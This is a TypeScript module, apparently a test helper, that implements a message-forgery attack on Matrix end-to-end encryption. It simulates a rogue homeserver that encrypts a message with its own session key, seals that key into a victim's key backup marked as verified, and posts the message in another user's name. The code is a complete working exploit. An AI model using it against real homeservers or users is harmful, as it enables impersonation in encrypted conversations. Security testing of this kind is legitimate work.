import {
  createCipheriv,
  createHmac,
  createPublicKey,
  diffieHellman,
  generateKeyPairSync,
  hkdfSync,
  randomUUID,
} from 'node:crypto';
import {
  DeviceId,
  EncryptionSettings,
  initAsync,
  OlmMachine,
  RoomId,
  UserId,
} from '@matrix-org/matrix-sdk-crypto-wasm';
import type { MatrixSession } from './homeserver.ts';

/** What a rogue homeserver puts into a room in somebody's name. */
export interface Forgery {
  /** The person whose key backup it abuses: any device of theirs. */
  person: MatrixSession;
  /** Whom it pretends to be. It writes any sender it likes; in a test their token does as well. */
  sender: MatrixSession;
  roomId: string;
  type: string;
  content: object;
}

/**
 * Forges a message as a rogue homeserver can: encrypted with a key of its own, which it puts into the person's key backup.
 * All that this takes is the public part of the backup key. Source: Matrix spec, "Backup algorithm".
 */
export async function forgeThroughBackup({ person, sender, roomId, type, content }: Forgery): Promise<void> {
  const forged = await encrypt(roomId, type, content);
  await putIntoBackup(person, roomId, forged);
  const path = `/rooms/${encodeURIComponent(roomId)}/send/m.room.encrypted/${randomUUID()}`;
  await request(sender, 'PUT', path, forged.content);
}

interface Forged {
  content: Record<string, unknown>;
  key: Record<string, unknown> & { session_id: string };
}

/** A message encrypted with a key that nobody has shared. */
async function encrypt(roomId: string, type: string, content: object): Promise<Forged> {
  await initAsync();
  const machine = await OlmMachine.initialize(new UserId('@nobody:localhost'), new DeviceId('ROGUE'));
  const room = new RoomId(roomId);
  await machine.shareRoomKey(room, [], new EncryptionSettings());
  const text = await machine.encryptRoomEvent(new RoomId(roomId), type, JSON.stringify(content));
  const [key] = JSON.parse(await machine.exportRoomKeys(() => true)) as [Forged['key']];
  machine.close();
  return { content: JSON.parse(text) as Record<string, unknown>, key };
}

async function putIntoBackup(session: MatrixSession, roomId: string, { key }: Forged): Promise<void> {
  const backup = await request(session, 'GET', '/room_keys/version');
  const { version, auth_data: authData } = backup as { version: string; auth_data: { public_key: string } };
  const { algorithm, sender_key, sender_claimed_keys, session_key, session_id } = key;
  const plain = { algorithm, sender_key, sender_claimed_keys, session_key, forwarding_curve25519_key_chain: [] };
  await request(
    session,
    'PUT',
    `/room_keys/keys/${encodeURIComponent(roomId)}/${encodeURIComponent(session_id)}?version=${version}`,
    {
      first_message_index: 0,
      forwarded_count: 0,
      is_verified: true,
      session_data: sealFor(authData.public_key, JSON.stringify(plain)),
    },
  );
}

function sealFor(publicKey: string, text: string): Record<string, string> {
  const prefix = Buffer.from('302a300506032b656e032100', 'hex');
  const theirs = createPublicKey({
    key: Buffer.concat([prefix, Buffer.from(publicKey, 'base64')]),
    format: 'der',
    type: 'spki',
  });
  const own = generateKeyPairSync('x25519');
  const shared = diffieHellman({ privateKey: own.privateKey, publicKey: theirs });
  const keys = Buffer.from(hkdfSync('sha256', shared, Buffer.alloc(32), '', 80));
  const cipher = createCipheriv('aes-256-cbc', keys.subarray(0, 32), keys.subarray(64));
  const ciphertext = Buffer.concat([cipher.update(text), cipher.final()]);
  const mac = createHmac('sha256', keys.subarray(32, 64)).update('').digest().subarray(0, 8);
  const ephemeral = own.publicKey.export({ format: 'der', type: 'spki' }).subarray(prefix.length);
  return { ciphertext: base64(ciphertext), mac: base64(mac), ephemeral: base64(ephemeral) };
}

function base64(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('base64').replaceAll('=', '');
}

async function request(session: MatrixSession, method: string, path: string, body?: object): Promise<unknown> {
  const response = await fetch(`${session.homeserver}/_matrix/client/v3${path}`, {
    method,
    headers: { authorization: `Bearer ${session.accessToken}` },
    ...(body && { body: JSON.stringify(body) }),
  });
  if (!response.ok) throw new Error(`the homeserver answered ${response.status}`);
  return response.json();
}
